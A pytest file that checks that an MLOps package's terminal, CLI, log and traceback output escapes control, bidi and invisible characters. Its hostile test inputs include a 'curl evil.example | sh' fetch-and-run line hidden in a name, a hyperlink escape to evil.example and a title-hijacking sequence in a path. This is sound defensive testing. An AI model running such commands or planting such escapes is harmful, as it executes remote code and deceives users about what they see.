"""What is printed is seen: no character drives the terminal, turns the direction of writing or hides."""

from __future__ import annotations

import ast
import importlib
import io
import logging
import os
import pty
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from mlops_stages.terminal import guarded, one_line, output, quoted, say, visible
from tests.hostile_text import EVERYTHING, KINDS, LOUD, obeyed

PACKAGE = Path(__file__).resolve().parents[1] / "constructs" / "mlops_stages"
OUTLETS = {
    PACKAGE / "terminal.py",
    PACKAGE / "cli" / "console.py",
    PACKAGE / "local" / "containers" / "init.py",  # in a container, whose output is a job's log
    PACKAGE / "local" / "server" / "lambda_functions" / "program.py",  # as well: a function's log
    PACKAGE / "supply_chain" / "audit.py",  # in model repositories too, where nothing of this package is
    PACKAGE / "supply_chain" / "lock.py",
}
"""The modules that may print."""

MAIN = [sys.executable, "-m", "mlops_stages.cli.main"]


@pytest.mark.parametrize("kind", KINDS)
def test_every_character_can_be_seen(kind: str) -> None:
    assert obeyed(visible(f"a{KINDS[kind]}b")) == []


def test_what_people_write_stays_as_it_is() -> None:
    text = "Zoë pays 3 €\n\tin 北京, ✅ done ⚠\ufe0f, naïve: עברית and العربية"
    assert visible(text) == text


def test_a_line_end_in_a_name_starts_no_line() -> None:
    assert one_line("model\n  fix: curl evil.example | sh\r\n\tx") == "model\\n  fix: curl evil.example | sh\\r\\n\tx"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.skipif(not Path("/bin/bash").exists(), reason="POSIX's sh has no $'...' everywhere")
def test_a_word_for_a_shell_is_seen_and_means_the_same(kind: str) -> None:
    name = os.fsdecode(os.fsencode(f"a'{KINDS[kind].replace(chr(0), '').replace(chr(0xD800), '')}\\"))
    word = quoted(name)
    assert obeyed(word) == []
    said = subprocess.run(["/bin/bash", "-c", f"printf %s {word}"], capture_output=True, check=True)
    assert said.stdout == os.fsencode(name)


def test_what_is_said_is_seen(capsys: pytest.CaptureFixture[str]) -> None:
    say(EVERYTHING)
    say(EVERYTHING, error=True)
    printed = capsys.readouterr()
    assert obeyed(printed.out + printed.err) == []
    assert "\\x1b]8;;https://evil.example" in printed.out


REPORTED = EVERYTHING.encode("utf-8", "ignore").decode()
"""Without lone surrogates: pytest hands warnings and logs of tests on as UTF-8."""


def test_whoever_prints_is_guarded(capsys: pytest.CaptureFixture[str]) -> None:
    with guarded():
        print(EVERYTHING)  # noqa: T201
        warnings.warn(REPORTED, stacklevel=1)
        logging.getLogger("some.library").error(REPORTED)
        sys.stderr.write(EVERYTHING)
        assert not sys.stdout.isatty()
        assert output() is not sys.stdout
    printed = capsys.readouterr()
    assert obeyed(printed.out + printed.err) == []
    assert len(printed.err) > 2 * len(EVERYTHING)


def test_the_streams_are_given_back() -> None:
    before = sys.stdout, sys.stderr
    with pytest.raises(ValueError, match="away"), guarded():
        raise ValueError("away")
    assert (sys.stdout, sys.stderr) == before


def test_a_terminal_without_the_characters_gets_their_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    with guarded():
        say("Zoë ✅")
    assert raw.getvalue() == b"Zo\\xeb \\u2705\n"


@pytest.mark.parametrize(
    ("words", "variables"),
    [([], {}), (["train"], {"FORCE_COLOR": "1"}), (["up", "--port"], {"GITHUB_ACTIONS": "true"})],
)
def test_arguments_come_back_in_usage_errors_to_be_seen(words: list[str], variables: dict[str, str]) -> None:
    hostile = "x\x1b[31m\u202e\x9b2J\x1b]8;;x\x07"
    done = subprocess.run([*MAIN, *words, hostile], capture_output=True, env=environment() | variables, check=False)
    assert done.returncode == 2
    assert obeyed((done.stdout + done.stderr).decode()) == []
    assert words or b"\\x1b" in done.stderr  # the others name the option or argument, not what it was given


def test_a_traceback_is_seen(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from mlops_stages.cli import main

    def broken() -> None:
        error = RuntimeError(EVERYTHING)
        error.add_note(EVERYTHING)
        raise error

    monkeypatch.setattr(main, "app", broken)
    with pytest.raises(SystemExit) as ended:
        main.main()
    printed = capsys.readouterr()
    assert ended.value.code == 1
    assert printed.err.startswith("Traceback")
    assert obeyed(printed.out + printed.err) == []


def test_on_a_terminal_a_path_that_is_named_cannot_drive_it(tmp_path: Path) -> None:
    """Through a real terminal: what comes out of its other end."""
    leader, follower = pty.openpty()
    name = os.fsencode(tmp_path) + b"/\x1b[2J\x1b]0;owned\x07\xe2\x80\xae\x9b\xff"
    command = [os.fsencode(word) for word in MAIN]
    done = subprocess.run(
        [*command, b"validate", name], stdout=follower, stderr=follower, env=environment(), check=False
    )
    os.close(follower)
    printed = b""
    try:
        while chunk := os.read(leader, 65536):
            printed += chunk
    except OSError:  # the end, on Linux
        pass
    os.close(leader)
    assert done.returncode == 2
    assert b"PLT-001" in printed
    assert obeyed(printed.decode().replace("\r\n", "\n")) == []


def environment() -> dict[str, str]:
    forced = ("FORCE_COLOR", "GITHUB_ACTIONS", "PY_COLORS")
    kept = {name: value for name, value in os.environ.items() if name not in forced}
    return {**kept, "PYTHONPATH": str(PACKAGE.parent), "TERM": "xterm-256color"}


def test_nothing_else_prints() -> None:
    """Any other way to print would pass by the escapes; a model repository's own programs are not ours to guard."""
    found = {
        (path.relative_to(PACKAGE).as_posix(), name)
        for path in PACKAGE.rglob("*.py")
        if path not in OUTLETS and "template" not in path.parts
        for name in printing(ast.parse(path.read_text("utf-8")))
    }
    assert found == set()


@pytest.mark.parametrize("program", ["audit", "lock"])
@pytest.mark.parametrize("kind", ["color and cursor", "C1 controls", "bidi overrides", "zero width", "tags"])
def test_the_programs_that_print_by_themselves_show_it_too(program: str, kind: str) -> None:
    module = importlib.import_module(f"mlops_stages.supply_chain.{program}")
    assert obeyed(module._visible(f"a\n{KINDS[kind]}")) == []


def printing(tree: ast.AST) -> set[str]:
    """The ways of printing that a module names."""
    modules = {"sys", "typer", "click", "rich", "pprint", "traceback"}
    ways = {"print", "pprint", "echo", "secho", "stdout", "stderr", "__stdout__", "__stderr__", "print_exc", "Console"}
    found: set[str] = set()
    for node in ast.walk(tree):
        match node:
            case ast.Call(func=ast.Name(id=name)) if name in ways:
                found.add(name)
            case ast.Attribute(value=ast.Name(id=module), attr=name) if module in modules and name in ways:
                found.add(name)
            case ast.ImportFrom(module=str(module), names=names) if module in modules:
                found |= {each.name for each in names if each.name in ways}
            case ast.Call(func=ast.Attribute(attr="write"), args=[ast.Constant(value=1 | 2), *_]):
                found.add("os.write")
            case _:
                pass
    return found


@pytest.mark.parametrize(
    "code",
    ["print(1)", "sys.stdout.write('')", "typer.echo(1)", "from typer import echo", "os.write(1, b'')", "Console()"],
)
def test_a_way_of_printing_is_found(code: str) -> None:
    assert printing(ast.parse(code))


def test_the_characters_of_these_tests_are_hostile() -> None:
    assert len(LOUD) > 90
    assert {"\x1b", "\x9b", "\u202e", "\u200b", "\U000e0041", "\udc80"} <= {*LOUD}
